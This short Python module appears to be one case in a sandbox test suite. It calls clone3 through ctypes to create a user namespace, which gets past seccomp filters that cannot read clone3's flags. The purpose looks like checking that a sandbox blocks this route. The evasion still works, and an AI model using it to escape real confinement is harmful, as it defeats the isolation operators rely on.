"""Become root in a namespace by the newer system call, whose flags a filter cannot see."""

import ctypes
import os

WORKS_UNCONFINED = False


def attack(bait):
    libc = ctypes.CDLL(None)
    arguments = (ctypes.c_uint64 * 11)(0x10000000, 0, 0, 0, 17)
    pid = libc.syscall(435, ctypes.byref(arguments), 88)
    if pid == 0:
        os._exit(0)
    return pid > 0
